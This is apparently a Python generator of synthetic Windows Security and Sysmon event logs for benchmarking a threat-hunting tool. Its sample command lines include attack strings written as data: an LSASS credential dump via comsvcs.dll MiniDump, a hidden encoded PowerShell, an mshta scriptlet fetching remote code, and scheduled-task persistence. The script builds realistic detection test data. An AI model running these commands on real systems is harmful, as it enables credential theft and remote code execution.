#!/usr/bin/env python3
"""Deterministic Windows-event workloads for benchmarking huntkit's `file` provider.

Standard library only; a fixed seed makes the output byte-identical on every run
with the same CPython.  Records are shaped like the OTRF Security-Datasets
JSON lines in tests/data/otrf/ (Security and Sysmon channels, the same key
names, EventID and RecordNumber as JSON numbers, ProcessId as hex text in
Security events and decimal text in Sysmon ones, Message with \\r\\n\\t,
@timestamp and TimeCreated), about 1.2 KB per event (1.5 KB there).

Usage:
    gen_events.py [--format ndjson|csv] [--size-mb N] [--out PATH] [--seed S]

  ndjson  one event per line (default, 1024 MiB)
  csv     the same events flattened to a fixed set of 24 columns, RFC 4180
          quoting (CommandLine holds doubled quotes, Message CR LF)

Events are written 1000 at a time; the file ends after the first thousand
that reaches --size-mb MiB.
"""
from __future__ import annotations

import argparse
import csv
import datetime as dt
import io
import json
import os
import random
import sys

MiB = 1024 * 1024
EPOCH = dt.datetime(2024, 3, 4, 0, 0, 0)

HOSTS = [f"{p}-{d}-{n:04d}" for p in ("WKS", "SRV", "DC", "SQL", "WEB")
         for d in ("FIN", "ENG", "OPS", "HR") for n in range(0, 400, 37)]
USERS = ["wardog", "pgustavo", "lrodriguez", "mmiller", "jsmith", "akhan", "chen.wei",
         "svc_backup", "svc_sql", "administrator", "helpdesk", "nbrown", "olga.ivanova"]
DOMAINS = ["THESHIRE", "CONTOSO", "WORKSTATION5"]
IMAGES = [r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
          r"C:\Windows\System32\rundll32.exe", r"C:\Windows\System32\svchost.exe",
          r"C:\Windows\explorer.exe", r"C:\Windows\System32\conhost.exe",
          r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
          r"C:\Windows\System32\mshta.exe", r"C:\Windows\System32\wbem\WmiPrvSE.exe",
          r"C:\Windows\System32\lsass.exe", r"C:\Windows\System32\schtasks.exe",
          r"C:\Windows\System32\reg.exe", r"C:\Windows\System32\net.exe"]
ARGS = ["/c whoami /all", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        r"C:\windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full",
        "-k netsvcs -p -s Schedule", "/create /tn Updater /tr calc.exe /sc onlogon",
        "query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "user /domain",
        "", "/s /q", "javascript:a=GetObject('script:https://example.test/x.sct').Exec();close()"]
TARGET_OBJECTS = [r"HKLM\System\CurrentControlSet\Services\W32Time\Config\LastKnownGoodTime",
                  r"HKU\S-1-5-21-3940915590-64593676-1414006259-500\Software\Microsoft\Windows\CurrentVersion\Run\Updater",
                  r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"]
CALLTRACE = (r"C:\windows\SYSTEM32\ntdll.dll+9c584|C:\windows\System32\KERNELBASE.dll+305fe|"
             r"C:\windows\system32\twinui.dll+72a89|C:\windows\SYSTEM32\ntdll.dll+30729")


class Gen:
    def __init__(self, seed: int):
        self.r = random.Random(seed)
        self.ms = 0
        self.record = 100000
        self.sids = {u: f"S-1-5-21-{self.r.randrange(10**9, 4 * 10**9)}-"
                        f"{self.r.randrange(10**9, 4 * 10**9)}-{self.r.randrange(1000, 9000)}"
                     for u in USERS}

    def guid(self) -> str:
        h = "%032x" % self.r.getrandbits(128)
        return "{%s-%s-%s-%s-%s}" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])

    def event(self) -> dict:
        r = self.r
        self.ms += r.randrange(1, 40)
        self.record += 1
        t = EPOCH + dt.timedelta(milliseconds=self.ms)
        iso = t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"
        host = r.choice(HOSTS)
        user = r.choice(USERS)
        dom = r.choice(DOMAINS)
        pid = r.randrange(4, 20000, 4)
        img = r.choice(IMAGES)
        cmd = f'"{img}" {r.choice(ARGS)}'.rstrip()
        kind = r.random()
        e = {"@timestamp": iso, "TimeCreated": iso, "Hostname": host,
             "RecordNumber": self.record}
        if kind < 0.45:  # Sysmon
            eid = r.choice((1, 3, 7, 10, 10, 10, 12, 13))
            utc = t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"
            e.update({"EventID": eid, "Channel": "Microsoft-Windows-Sysmon/Operational",
                      "SourceName": "Microsoft-Windows-Sysmon", "Task": str(eid), "Level": "4",
                      "ProviderGuid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "RuleName": "-",
                      "UtcTime": utc, "ProcessGuid": self.guid(), "ProcessId": str(pid),
                      "Image": img})
            if eid == 1:
                e.update({"CommandLine": cmd, "CurrentDirectory": "C:\\Windows\\system32\\",
                          "User": f"{dom}\\{user}", "LogonId": f"0x{r.getrandbits(24):x}",
                          "IntegrityLevel": r.choice(("High", "Medium", "System")),
                          "Hashes": "SHA1=%040X,MD5=%032X" % (r.getrandbits(160), r.getrandbits(128)),
                          "ParentProcessGuid": self.guid(), "ParentProcessId": str(r.randrange(4, 20000, 4)),
                          "ParentImage": r.choice(IMAGES)})
                body = (f"Process Create:\r\nRuleName: -\r\nUtcTime: {utc}\r\nProcessGuid: {e['ProcessGuid']}\r\n"
                        f"ProcessId: {pid}\r\nImage: {img}\r\nCommandLine: {cmd}\r\n"
                        f"User: {dom}\\{user}\r\nHashes: {e['Hashes']}")
            elif eid == 10:
                e.update({"SourceProcessGUID": e.pop("ProcessGuid"), "SourceProcessId": e.pop("ProcessId"),
                          "SourceThreadId": str(r.randrange(100, 9000)), "SourceImage": e.pop("Image"),
                          "TargetProcessGUID": self.guid(), "TargetProcessId": str(r.randrange(4, 20000, 4)),
                          "TargetImage": r.choice(IMAGES), "GrantedAccess": r.choice(("0x1010", "0x1410", "0x2000")),
                          "CallTrace": CALLTRACE})
                body = (f"Process accessed:\r\nRuleName: -\r\nUtcTime: {utc}\r\n"
                        f"SourceProcessGUID: {e['SourceProcessGUID']}\r\nSourceProcessId: {e['SourceProcessId']}\r\n"
                        f"SourceImage: {e['SourceImage']}\r\nTargetImage: {e['TargetImage']}\r\n"
                        f"GrantedAccess: {e['GrantedAccess']}\r\nCallTrace: {CALLTRACE}")
            elif eid in (12, 13):
                e.update({"EventType": "SetValue" if eid == 13 else "CreateKey",
                          "TargetObject": r.choice(TARGET_OBJECTS), "Details": f"DWORD (0x{r.getrandbits(16):08x})"})
                body = (f"Registry value set:\r\nRuleName: -\r\nEventType: {e['EventType']}\r\nUtcTime: {utc}\r\n"
                        f"ProcessGuid: {e['ProcessGuid']}\r\nProcessId: {pid}\r\nImage: {img}\r\n"
                        f"TargetObject: {e['TargetObject']}\r\nDetails: {e['Details']}")
            else:
                e.update({"ImageLoaded": r"C:\Windows\System32\comsvcs.dll", "Signed": "true",
                          "Signature": "Microsoft Windows", "SignatureStatus": "Valid",
                          "SourceIp": f"10.0.{r.randrange(256)}.{r.randrange(256)}",
                          "DestinationPort": str(r.choice((443, 445, 3389, 80, 53)))})
                body = (f"Image loaded:\r\nRuleName: -\r\nUtcTime: {utc}\r\nProcessGuid: {e['ProcessGuid']}\r\n"
                        f"ProcessId: {pid}\r\nImage: {img}\r\nImageLoaded: {e['ImageLoaded']}")
        else:  # Security
            eid = r.choice((4688, 4688, 4624, 4689, 4658, 4663, 5156, 5158))
            e.update({"EventID": eid, "Channel": "Security",
                      "SourceName": "Microsoft-Windows-Security-Auditing", "Task": str(r.choice((12544, 13312, 13313, 12810))),
                      "Level": "0", "Keywords": "0x8020000000000000",
                      "ProviderGuid": "{54849625-5478-4994-a5ba-3e3b0328c30d}",
                      "SubjectUserSid": self.sids[user], "SubjectUserName": user,
                      "SubjectDomainName": dom, "SubjectLogonId": f"0x{r.getrandbits(20):x}",
                      "ProcessId": f"0x{pid:x}"})
            if eid == 4688:
                npid = r.randrange(4, 20000, 4)
                e.update({"NewProcessId": f"0x{npid:x}", "NewProcessName": img, "TokenElevationType": "%%1936",
                          "CommandLine": cmd, "ParentProcessName": r.choice(IMAGES),
                          "MandatoryLabel": "S-1-16-12288", "TargetLogonId": "0x0"})
                body = (f"A new process has been created.\r\n\r\nCreator Subject:\r\n\tSecurity ID:\t\t{self.sids[user]}\r\n"
                        f"\tAccount Name:\t\t{user}\r\n\tAccount Domain:\t\t{dom}\r\n\tLogon ID:\t\t{e['SubjectLogonId']}\r\n\r\n"
                        f"Process Information:\r\n\tNew Process ID:\t\t0x{npid:x}\r\n\tNew Process Name:\t{img}\r\n"
                        f"\tCreator Process ID:\t0x{pid:x}\r\n\tProcess Command Line:\t{cmd}")
            elif eid == 4624:
                e.update({"TargetUserName": r.choice(USERS), "TargetDomainName": dom, "LogonType": str(r.choice((2, 3, 5, 10))),
                          "IpAddress": f"10.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(256)}",
                          "IpPort": str(r.randrange(1024, 65536)), "LogonProcessName": "NtLmSsp ",
                          "AuthenticationPackageName": "NTLM", "WorkstationName": r.choice(HOSTS)})
                body = (f"An account was successfully logged on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\t{self.sids[user]}\r\n"
                        f"\tAccount Name:\t\t{user}\r\n\r\nLogon Information:\r\n\tLogon Type:\t\t{e['LogonType']}\r\n"
                        f"\r\nNetwork Information:\r\n\tSource Network Address:\t{e['IpAddress']}")
            else:
                e.update({"ProcessName": img, "ObjectServer": "Security", "HandleId": f"0x{r.getrandbits(12):x}",
                          "Application": "\\device\\harddiskvolume2\\" + img[3:].lower(),
                          "Direction": "%%14593", "SourceAddress": f"172.18.{r.randrange(256)}.{r.randrange(256)}",
                          "SourcePort": str(r.randrange(1024, 65536)), "Protocol": "6"})
                body = (f"The handle to an object was closed.\r\n\r\nSubject :\r\n\tSecurity ID:\t\t{self.sids[user]}\r\n"
                        f"\tAccount Name:\t\t{user}\r\n\tAccount Domain:\t\t{dom}\r\n\r\nObject:\r\n\tObject Server:\t\tSecurity\r\n"
                        f"\tHandle ID:\t\t{e['HandleId']}\r\n\r\nProcess Information:\r\n\tProcess ID:\t\t0x{pid:x}\r\n"
                        f"\tProcess Name:\t\t{img}")
        e["Message"] = body
        return e


CSV_COLUMNS = ["@timestamp", "TimeCreated", "Hostname", "RecordNumber", "EventID", "Channel", "SourceName",
               "Task", "Level", "ProviderGuid", "SubjectUserName", "SubjectDomainName", "SubjectUserSid",
               "SubjectLogonId", "ProcessId", "Image", "NewProcessName", "CommandLine", "ParentProcessName",
               "TargetUserName", "IpAddress", "LogonType", "TargetObject", "Message"]


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--format", choices=("ndjson", "csv"), default="ndjson")
    ap.add_argument("--size-mb", type=int, default=1024)
    ap.add_argument("--out", default=None)
    ap.add_argument("--seed", type=int, default=4688)
    a = ap.parse_args()
    out = a.out or f"events_{a.size_mb}mb.{a.format}"
    target = a.size_mb * MiB
    g = Gen(a.seed)
    size = rows = 0
    tmp = out + ".tmp"
    with open(tmp, "w", newline="", encoding="utf-8") as f:
        if a.format == "csv":
            buf = io.StringIO()
            w = csv.writer(buf, lineterminator="\n")
            w.writerow(CSV_COLUMNS)
            while size < target:
                for _ in range(1000):
                    e = g.event()
                    w.writerow([e.get(c, "") for c in CSV_COLUMNS])
                    rows += 1
                chunk = buf.getvalue()
                buf.seek(0)
                buf.truncate()
                f.write(chunk)
                size += len(chunk.encode("utf-8"))
        else:
            dumps = json.JSONEncoder(ensure_ascii=False, separators=(",", ":")).encode
            while size < target:
                chunk = "".join(dumps(g.event()) + "\n" for _ in range(1000))
                f.write(chunk)
                size += len(chunk.encode("utf-8"))
                rows += 1000
    os.replace(tmp, out)
    print(f"{out}: {rows} events, {size} bytes", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
